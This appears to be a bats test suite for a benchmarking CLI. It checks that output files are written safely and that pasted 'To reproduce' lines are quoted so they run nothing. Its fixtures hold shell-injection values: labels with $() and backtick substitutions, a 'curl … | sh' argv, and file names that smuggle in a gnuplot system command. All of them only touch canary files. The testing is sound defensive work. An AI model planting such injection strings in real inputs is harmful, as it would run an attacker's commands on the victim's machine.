#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Issue 18, 4, 5, 6 and 11: output files and the lines a reader pastes.
# -o never replaces what it points at (a device, a FIFO, a symlink), side
# files are not overwritten silently, names with control characters are
# refused, a full disk or a cut picture is an error with no "wrote" line;
# an interrupted plot or report leaves no gnuplot and no staging files;
# the mail's "To reproduce" lines give back, word for word, what the runs
# were made with, and run nothing else.
#
# Devices are reached through links in the test's directory, never by
# their own path: a clockbench that replaced its output would otherwise
# replace the system's /dev/null.

bats_require_minimum_version 1.5.0

load helpers

# Two bench runs and hostile runs, imported from an edited export: labels
# and an exec command line made to run commands when pasted, and labels
# with invisible characters.
setup_file() {
	export CLOCKBENCH_DB="$BATS_FILE_TMPDIR/results.db"
	export XDG_STATE_HOME="$BATS_FILE_TMPDIR/state"
	cb bench --quick --api clock_gettime --clock monotonic --label before >/dev/null 2>&1
	cb bench --quick --api clock_gettime --clock monotonic --label after >/dev/null 2>&1
	cb exec -n 3 --label ex -- true >/dev/null 2>&1
	cb export ex | python3 -c '
import json, sys
d = json.load(sys.stdin)
base = d["runs"][0]
hostile = [
    # label, argv
    ("a$(touch canary-label)", ["/bin/true;", "curl", "http://x/$(touch canary-url)", "|", "sh"]),
    ("o'"'"'brien `touch canary-bq` \"x\" \\ y", ["sh", "-c", "echo it'"'"'s; touch canary-c", "a b"]),
    ("sep\u2028x", ["true"]),
    ("zw\u200bx\ufeff", ["true"]),
    ("plain", ["printf", "%s|", "a  b", ""]),
    ("ctl", ["printf", "tab"]),
]
runs = []
for i, (label, argv) in enumerate(hostile):
    r = json.loads(json.dumps(base))
    r.update(uuid="00000000-0000-4000-8000-0000000000%02d" % (i + 1), label=label)
    r["host"] = "host\u200bwith\ufeffzw\u2028sep"
    r["config"]["command"] = argv
    r["config"]["command_line"] = " ".join(argv)
    # As runs from before the command line was recorded: rebuilt from config.
    r["environment"].pop("argv", None)
    runs.append(r)
d["runs"] = runs
json.dump(d, sys.stdout)' >"$BATS_FILE_TMPDIR/hostile.json"
	cb import "$BATS_FILE_TMPDIR/hostile.json" >/dev/null
	# A control character import refuses, written behind its back (sqlite3).
	python3 - "$CLOCKBENCH_DB" <<-'EOF'
	import json, sqlite3, sys
	c = sqlite3.connect(sys.argv[1])
	cfg = json.loads(c.execute("SELECT config FROM runs WHERE label = 'ctl'").fetchone()[0])
	cfg["command"] = ["printf", "a\tb"]
	c.execute("UPDATE runs SET config = ? WHERE label = 'ctl'", (json.dumps(cfg),))
	c.commit()
	EOF
}

setup() {
	T="$BATS_TEST_TMPDIR"
	export CLOCKBENCH_DB="$BATS_FILE_TMPDIR/results.db"
	export XDG_STATE_HOME="$BATS_FILE_TMPDIR/state"
	cd "$T"
}

teardown() {
	# A gnuplot an old clockbench left behind.
	if [ -n "${GP_PID:-}" ] && [ -e "/proc/$GP_PID" ]; then
		kill -9 "$GP_PID" 2>/dev/null || true
	fi
	if [ -n "${MOUNTED:-}" ]; then
		umount "$MOUNTED"
	fi
}

# The runs' ids by label (the hostile ones are 4..8).
HOSTILE_LABEL=4 HOSTILE_QUOTES=5 SEP=6 ZW=7 PLAIN=8 CTL=9

@test "-o through a link to a device writes the device and leaves the link" {
	ln -s /dev/null "$T/null"
	run cb report --format mail -o "$T/null" before after
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	[ -L "$T/null" ] && [ "$(readlink "$T/null")" = /dev/null ]
	[ -c /dev/null ]
	# What stdout is, through /proc/self/fd/1 as /dev/stdout is: the pipe of `run`.
	ln -s /proc/self/fd/1 "$T/stdout"
	run cb report --format mail -o "$T/stdout" before after
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	[[ "$output" == *"To reproduce:"* ]]
	[ -L "$T/stdout" ]
	# /dev/stdout when the shell sends it to a file: that file, appended to with >>.
	ln -s /dev/stdout "$T/so"
	cb report --format mail -o "$T/so" before after >"$T/mail.txt"
	cb report --format mail -o "$T/so" before after >>"$T/mail.txt"
	[ "$(grep -c '^To reproduce:$' "$T/mail.txt")" -eq 2 ]
	[ -L "$T/so" ]
	[ "$(ls -A "$T" | tr '\n' ' ')" = "mail.txt null so stdout " ]
}

@test "-o a FIFO writes through it; the FIFO stays a FIFO" {
	mkfifo "$T/fifo"
	cat "$T/fifo" >"$T/got" &
	reader=$!
	run cb report --format mail -o "$T/fifo" before after
	if [ ! -p "$T/fifo" ]; then
		kill "$reader"
		echo "the FIFO was replaced: $(ls -l "$T/fifo")"
		return 1
	fi
	wait "$reader"
	[ "$status" -eq 0 ]
	grep -q '^To reproduce:$' "$T/got"
}

@test "-o a symlink to a file, or to nothing: refused, the target untouched" {
	echo precious >"$T/target"
	ln -s "$T/target" "$T/link"
	ln -s "$T/nowhere" "$T/dangling"
	for o in "$T/link" "$T/dangling"; do
		run cb report --format mail -o "$o" before after
		[ "$status" -eq 1 ] || { echo "$o: status $status"; return 1; }
		[ "${#lines[@]}" -eq 1 ]
		[[ "$output" == *"cannot write $o: a symbolic link"* ]]
		[ -L "$o" ]
	done
	[ "$(cat "$T/target")" = precious ]
	[ ! -e "$T/nowhere" ]
	ln -s "$T/target" "$T/pic.svg"
	run cb plot -o "$T/pic.svg" before
	[ "$status" -eq 1 ] && [[ "$output" == *"a symbolic link"* ]]
	[ "$(cat "$T/target")" = precious ] && [ ! -e "$T/pic.gp" ]
}

@test "a full device or a short write: exit 1, the error, no wrote line" {
	ln -s /dev/full "$T/full"
	run cb report --format mail -o "$T/full" before after
	[ "$status" -eq 1 ]
	[ "${#lines[@]}" -eq 1 ]
	[[ "$output" == *"cannot write $T/full: No space left on device"* ]]
	[ -L "$T/full" ]
	run cb vdso --dump "$T/full"
	[ "$status" -eq 1 ] && [[ "$output" == *"No space left on device"* ]]
	[ -L "$T/full" ]
	# A regular file replaced: whole, the mode the umask allows.
	echo old >"$T/mail.txt"
	(umask 027 && cb report --format mail -o "$T/mail.txt" before after)
	grep -q '^To reproduce:$' "$T/mail.txt"
	[ "$(stat -c %a "$T/mail.txt")" = 640 ]
	[ "$(ls -A "$T" | tr '\n' ' ')" = "full mail.txt " ]
}

@test "a full disk (16 kB tmpfs): plot and report exit 1 with no wrote line and leave nothing" {
	[ "$(id -u)" -eq 0 ] || skip "mounting a tmpfs needs root"
	mkdir "$T/small"
	mount -t tmpfs -o size=16k,mode=0755 tmpfs "$T/small"
	MOUNTED="$T/small"
	run cb plot -o "$T/small/x.png" --size 1600x1200 before after
	[ "$status" -eq 1 ] || { echo "$output"; ls -la "$T/small"; return 1; }
	[[ "$output" != *wrote* ]]
	[[ "$output" == *"No space left on device"* ]]
	[ -z "$(ls -A "$T/small")" ] || { ls -la "$T/small"; return 1; }
	run cb report -o "$T/small/r" before after
	[ "$status" -eq 1 ] && [[ "$output" != *wrote* ]]
	[ ! -e "$T/small/r" ] && [ -z "$(ls -A "$T/small")" ]
	# The staging directory full: gnuplot cuts the picture and says nothing.
	mkdir "$T/out"
	run env TMPDIR="$T/small" "$CLOCKBENCH" plot -o "$T/out/x.png" --size 1600x1200 before after
	[ "$status" -eq 1 ] || { echo "$output"; return 1; }
	[[ "$output" != *wrote* ]]
	[ -z "$(ls -A "$T/out")" ] && [ -z "$(ls -A "$T/small")" ]
}

@test "a picture gnuplot left cut short (exit 0): exit 1, nothing written" {
	mkdir "$T/bin" "$T/out"
	# A gnuplot that writes half an SVG and reports success.
	cat >"$T/bin/gnuplot" <<-'EOF'
	#!/bin/sh
	printf '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n<g>' >x.svg
	exit 0
	EOF
	chmod +x "$T/bin/gnuplot"
	run env PATH="$T/bin:$PATH" "$CLOCKBENCH" plot -o "$T/out/x.svg" before
	[ "$status" -eq 1 ]
	[ "${#lines[@]}" -eq 1 ]
	[[ "$output" == *"gnuplot left x.svg cut short"* ]]
	[ -z "$(ls -A "$T/out")" ]
}

@test "a newline or other control character in -o: exit 2, nothing run or written" {
	usage_error "the name holds a control or invisible character" \
		plot -o $'x\nsystem "touch canary-nl"\n.svg' before
	usage_error "-o 'x\\ry.svg'" plot -o $'x\ry.svg' before
	usage_error "the name holds a control" report -o $'r\n.html' before
	usage_error "the name holds a control" report --format mail -o $'m\e[2J' before
	usage_error "the name holds a control" vdso --dump $'d\nx'
	usage_error "invisible character" plot -o $'x\u2028y.svg' before
	[ -z "$(ls -A "$T")" ]
}

@test "side files: a .gp or .dat clockbench did not write is refused, --force replaces it" {
	echo "my own script" >"$T/x.gp"
	run cb plot -o "$T/x.svg" before
	[ "$status" -eq 1 ]
	[ "${#lines[@]}" -eq 1 ]
	[[ "$output" == *"cannot write $T/x.gp: it exists and clockbench did not write it; remove it or use --force"* ]]
	[ "$(cat "$T/x.gp")" = "my own script" ]
	[ ! -e "$T/x.svg" ] && [ ! -e "$T/x.dat" ]
	run cb plot -o "$T/x.svg" --force before
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	head -1 "$T/x.gp" | grep -q '^# Drawn by clockbench'
	# Its own files from the last plot: replaced without a word.
	run cb plot -o "$T/x.svg" after
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	grep -q 'after' "$T/x.svg"
	echo "my data" >"$T/x.dat"
	run cb plot -o "$T/x.svg" before
	[ "$status" -eq 1 ] && [[ "$output" == *"cannot write $T/x.dat: it exists"* ]]
	[ "$(cat "$T/x.dat")" = "my data" ]
	# report -o DIR: the same for charts.gp and charts.dat.
	mkdir "$T/r" && echo mine >"$T/r/charts.dat"
	run cb report -o "$T/r" before after
	[ "$status" -eq 1 ] && [[ "$output" == *"cannot write $T/r/charts.dat: it exists"* ]]
	[ "$(ls -A "$T/r")" = charts.dat ]
	run cb report -o "$T/r" --force before after
	[ "$status" -eq 0 ] && [ -s "$T/r/index.html" ]
}

# A gnuplot that says it started (its pid, into the FIFO ready) and then
# waits for ever, as a slow gnuplot on a big run does.
slow_gnuplot() {
	mkdir -p "$T/bin"
	mkfifo "$T/ready"
	cat >"$T/bin/gnuplot" <<-EOF
	#!/bin/sh
	echo \$\$ >"$T/ready"
	exec sleep 100000
	EOF
	chmod +x "$T/bin/gnuplot"
}

# Start "clockbench ARGS..." with the slow gnuplot and a staging directory
# of the test's own, wait for its gnuplot, then send it signal SIG.
interrupt() {
	local sig=$1
	shift
	mkdir -p "$T/tmp"
	# Opened both ways, so that a clockbench that never starts gnuplot
	# fails the test (read times out) rather than hanging it.
	exec {ready}<>"$T/ready"
	# A background job starts with SIGINT ignored: give it back its default.
	PATH="$T/bin:$PATH" TMPDIR="$T/tmp" python3 -c '
import os, signal, sys
signal.signal(signal.SIGINT, signal.SIG_DFL)
os.execv(sys.argv[1], sys.argv[1:])' "$CLOCKBENCH" "$@" >"$T/out.txt" 2>&1 &
	CB_PID=$!
	read -r -t 600 -u "$ready" GP_PID || { echo "gnuplot never started: $(cat "$T/out.txt")"; return 1; }
	[ -d "/proc/$GP_PID" ]
	STAGED=$(ls -A "$T/tmp")	# the staging directory, while gnuplot runs
	kill "-$sig" "$CB_PID"
	CB_STATUS=0
	wait "$CB_PID" || CB_STATUS=$?
	exec {ready}>&-
}

@test "SIGTERM during plot: gnuplot stopped, no staging directory, exit 143" {
	slow_gnuplot
	mkdir "$T/out"
	interrupt TERM plot -o "$T/out/x.svg" before after
	[ "$CB_STATUS" -eq 143 ]
	[ ! -e "/proc/$GP_PID" ] || { echo "gnuplot $GP_PID still runs"; return 1; }
	[ -n "$STAGED" ]
	[ -z "$(ls -A "$T/tmp")" ] || { ls -laR "$T/tmp"; return 1; }
	[ -z "$(ls -A "$T/out")" ] || { ls -la "$T/out"; return 1; }
}

@test "SIGINT during report -o DIR: gnuplot stopped, nothing left, exit 130" {
	slow_gnuplot
	interrupt INT report -o "$T/out" before after
	[ "$CB_STATUS" -eq 130 ]
	[ ! -e "/proc/$GP_PID" ] || { echo "gnuplot $GP_PID still runs"; return 1; }
	[ -n "$STAGED" ]
	[ -z "$(ls -A "$T/tmp")" ] || { ls -laR "$T/tmp"; return 1; }
}

@test "SIGHUP during report: gnuplot stopped, no staging directory, exit 129" {
	slow_gnuplot
	mkdir "$T/out"
	interrupt HUP report -o "$T/out/r.html" before after
	[ "$CB_STATUS" -eq 129 ]
	[ ! -e "/proc/$GP_PID" ] || { echo "gnuplot $GP_PID still runs"; return 1; }
	[ -n "$STAGED" ]
	[ -z "$(ls -A "$T/tmp")" ] && [ -z "$(ls -A "$T/out")" ]
}

# The "To reproduce:" lines of a mail, after the heading.
reproduce_lines() {
	sed -n '/^To reproduce:$/,$p' | tail -n +2
}

# Evaluate the reproduce lines with clockbench a function that writes its
# argv, one NUL-ended word each, to argv.N; run in $T.
eval_reproduce() {
	printf '%s\n' 'n=0; clockbench() { n=$((n + 1)); printf "%s\0" "$@" >"argv.$n"; }' \
		>"$T/eval.sh"
	cat >>"$T/eval.sh"
	sh -n "$T/eval.sh"
	(cd "$T" && sh "$T/eval.sh")
}

# argv.N as a Python list.
argv_of() {
	python3 -c 'import sys; print(open(sys.argv[1], "rb").read().split(b"\0")[:-1])' "$1"
}

@test "mail: the reproduce lines give the labels and exec's argv back word for word, run nothing" {
	cb report --format mail "$HOSTILE_LABEL" "$HOSTILE_QUOTES" "$PLAIN" >"$T/mail.txt"
	reproduce_lines <"$T/mail.txt" | eval_reproduce
	ls "$T"
	[ -z "$(ls "$T" | grep canary)" ] || { echo "a pasted line ran a command"; return 1; }
	want=$(python3 -c '
import json, sys
runs = json.load(open(sys.argv[1]))["runs"]
print(repr([s.encode() for s in ["exec", "-n", "3", "--label", runs[0]["label"], "--"] + runs[0]["config"]["command"]]))
print(repr([s.encode() for s in ["exec", "-n", "3", "--label", runs[1]["label"], "--"] + runs[1]["config"]["command"]]))
print(repr([s.encode() for s in ["exec", "-n", "3", "--label", runs[4]["label"], "--"] + runs[4]["config"]["command"]]))
print(repr([s.encode() for s in ["compare", runs[0]["label"], runs[1]["label"], runs[4]["label"]]]))
' "$BATS_FILE_TMPDIR/hostile.json")
	got=$(for n in 1 2 3 4; do argv_of "$T/argv.$n"; done)
	[ "$got" = "$want" ] || { diff <(echo "$want") <(echo "$got"); cat "$T/mail.txt"; return 1; }
	# Wrapped within 72 columns, between words.
	! awk 'length > 72' "$T/mail.txt" | grep -q .
}

@test "mail: a run with invisible characters says it cannot be reproduced, and shows none raw" {
	run cb report --format mail "$SEP" "$ZW" "$CTL"
	[ "$status" -eq 0 ]
	for bad in $'\u2028' $'\u2029' $'\u200b' $'\ufeff'; do
		[[ "$output" != *"$bad"* ]] || { printf '%s' "$output" | od -c | head; return 1; }
	done
	[[ "$output" == *'host\u200bwith\ufeffzw\u2028sep'* ]]
	# The comments as one line: named by label, not by the store's run id.
	flat=$(tr '\n#' '  ' <<<"$output" | tr -s ' ')
	[[ "$flat" == *'sep\u2028x, on kernel '*': its command line cannot be reproduced'* ]]
	[[ "$flat" == *'zw\u200bx\ufeff, on kernel '*': its command line cannot be reproduced'* ]]
	[[ "$flat" == *'ctl, on kernel '*': its command line cannot be reproduced'* ]]
	[[ "$flat" == *"the comparison cannot be reproduced safely"* ]]
	# What is printed still parses and runs nothing.
	reproduce_lines <<<"$output" | eval_reproduce
	[ ! -e "$T/argv.1" ]
	# The HTML report carries the same summary.
	cb report -o "$T/r.html" "$SEP" "$ZW" >/dev/null
	! grep -q $'\u2028\|\u200b\|\ufeff' "$T/r.html"
}

@test "plot's 'draw it again' line quotes the directory for the shell" {
	mkdir "$T/a b\$(touch canary-dir)"
	run cb plot -o "$T/a b\$(touch canary-dir)/x.svg" before
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	line=${output#*to draw it again: }
	(cd / && sh -c "$line" >/dev/null 2>&1) || { echo "cannot run: $line"; return 1; }
	[ -z "$(find "$T" -name 'canary*')" ]
	[ -s "$T/a b\$(touch canary-dir)/x.svg" ]
}
